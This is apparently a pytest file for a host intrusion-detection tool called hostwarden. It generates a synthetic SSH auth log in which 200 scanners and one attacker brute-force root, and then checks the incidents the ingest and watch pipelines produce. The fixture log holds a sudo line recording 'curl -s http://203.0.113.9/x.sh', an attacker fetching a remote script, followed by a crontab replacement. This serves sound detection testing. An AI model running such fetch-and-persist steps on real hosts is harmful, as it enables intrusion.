"""Incidents on the real pipelines: `ingest` and `watch` of one compromised host's auth log give
the same graded incidents in the store: one L1 intrusion with its chain, one background campaign."""

from __future__ import annotations

import io
import json
import threading
import time
from pathlib import Path

from hostwarden.core.config import load_config
from hostwarden.core.records import Grade
from hostwarden.incidents.graph import timeline
from hostwarden.incidents.model import Incident
from hostwarden.store.eventstore import EventStore

ATTACKER = "198.51.100.23"


def _log(path: Path) -> Path:
    lines = []
    pid = 2000
    for s in range(200):  # background scanners: six failures each, a minute apart from each other
        minute, ip = s // 4, f"203.0.{s // 100}.{s % 100 + 1}"
        for k in range(6):
            pid += 1
            lines.append(f"Nov  1 0{minute // 60 + 6}:{minute % 60:02d}:{k * 5 + (s % 4):02d} web-01 sshd[{pid}]: "
                         f"Failed password for root from {ip} port {40000 + k} ssh2")
    for k in range(10):  # the attacker: ten guesses, then in
        lines.append(f"Nov  1 09:00:{k * 3:02d} web-01 sshd[5120]: Failed password for root from {ATTACKER} "
                     f"port 60001 ssh2")
    lines += [f"Nov  1 09:01:10 web-01 sshd[5131]: Accepted password for root from {ATTACKER} port 60002 ssh2",
              "Nov  1 09:02:02 web-01 sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; "
              "COMMAND=/usr/bin/curl -s http://203.0.113.9/x.sh",
              "Nov  1 09:03:05 web-01 crontab[5275]: (root) REPLACE (root)"]
    path.write_text("\n".join(lines) + "\n")
    return path


def _incidents(data: Path) -> list[Incident]:
    with EventStore(data, read_only=True) as store:
        rows = store.query_arrow('SELECT * FROM events WHERE "event.kind" = \'incident\'').to_pylist()
    return [Incident.from_ecs(r) for r in rows]


def _check(incidents: list[Incident]) -> None:
    l1 = [i for i in incidents if i.grade is Grade.L1]
    assert len(l1) == 1, [i.title() for i in incidents]
    inc = l1[0]
    assert inc.kind == "intrusion" and inc.priority == "P0" and ATTACKER in inc.sources
    steps = timeline(inc)
    kinds = [(s["kind"], s.get("grade"), s["what"]) for s in steps]
    login = next(i for i, s in enumerate(kinds) if s[1] == "L1")
    assert any(s[0] == "alert" and "brute force" in s[2].lower() for s in kinds[:login]), kinds  # the BF first
    assert [s[2] for s in kinds[login:] if s[0] == "activity"] == ["sudo_command", "crontab_replaced"], kinds
    assert [s["time"] for s in steps] == sorted(s["time"] for s in steps)
    campaigns = [i for i in incidents if i.kind == "campaign" and "SSH" in (i.campaign or "")]
    assert len(campaigns) == 1 and len(campaigns[0].sources) >= 200  # 200 scanners (and the attacker)
    assert len(incidents) <= 4  # not hundreds of rows


def test_ingest_yields_the_l1_incident_and_one_campaign(tmp_path: Path) -> None:
    from hostwarden.pipelines.ingest_job import run_ingest

    log = _log(tmp_path / "auth.log")
    cfg = load_config(None, data_dir=tmp_path / "data")
    result = run_ingest(cfg, [str(log)])
    assert len(result.alerts) > 200
    _check(_incidents(cfg.data_dir))
    again = run_ingest(cfg, [str(log)])  # re-ingest: nothing new, incidents unchanged
    assert again.alerts == [] and len(_incidents(cfg.data_dir)) == len(_incidents(cfg.data_dir))


def test_watch_updates_incidents_as_alerts_arrive(tmp_path: Path) -> None:
    from hostwarden.pipelines.watch.runtime import Watch

    log = _log(tmp_path / "auth.log")
    cfg = load_config(None, data_dir=tmp_path / "data")
    out, stop = io.StringIO(), threading.Event()
    watch = Watch(cfg, [str(log)], out=out, err=io.StringIO(), poll_seconds=0.01)
    runner = threading.Thread(target=watch.run, args=(stop,))
    runner.start()
    lines = log.read_text().count("\n")
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and getattr(getattr(watch, "counters", None), "events", 0) < lines:
        time.sleep(0.05)
    stop.set()
    runner.join(timeout=60)
    assert not runner.is_alive()
    _check(_incidents(cfg.data_dir))
    printed = [ln for ln in out.getvalue().splitlines() if ln.startswith("INCIDENT L1")]
    assert len(printed) == 1 and ATTACKER in printed[0]  # shown once, the moment it became L1
    json.dumps([i.to_ecs() for i in _incidents(cfg.data_dir)], default=str)  # rows read back whole
